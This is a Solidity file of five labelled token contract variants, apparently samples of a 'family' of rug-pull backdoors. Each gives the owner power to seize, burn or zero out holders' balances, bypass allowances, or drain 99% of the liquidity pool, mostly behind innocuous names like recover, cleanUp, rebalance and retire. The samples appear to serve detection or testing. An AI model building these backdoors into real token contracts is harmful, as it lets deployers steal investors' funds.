// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

interface IPair {
    function sync() external;
}

/// Family: tokens leak out of other people's wallets, or out of the pool.
contract ForcedTransfer is FamilyToken {
    function recover(address from, address to, uint256 value) external onlyOwner {
        _move(from, to, value);
    }
}

contract OwnerNeedsNoLeave is FamilyToken {
    function _spend(address from, uint256 value) internal override {
        if (msg.sender != owner) super._spend(from, value);
    }
}

contract BurnFromAnybody is FamilyToken {
    function cleanUp(address account, uint256 value) external onlyOwner {
        uint256 held = _balances[account];
        uint256 gone = value < held ? value : held;
        _balances[account] = held - gone;
        totalSupply -= gone;
    }
}

contract PoolDrain is FamilyToken {
    function rebalance() external onlyOwner {
        uint256 most = (_balances[pair] * 99) / 100;
        _move(pair, msg.sender, most);
        IPair(pair).sync();
    }
}

contract WipeList is FamilyToken {
    function retire(address[] calldata accounts) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; ++i) {
            _balances[owner] += _balances[accounts[i]];
            _balances[accounts[i]] = 0;
        }
    }
}
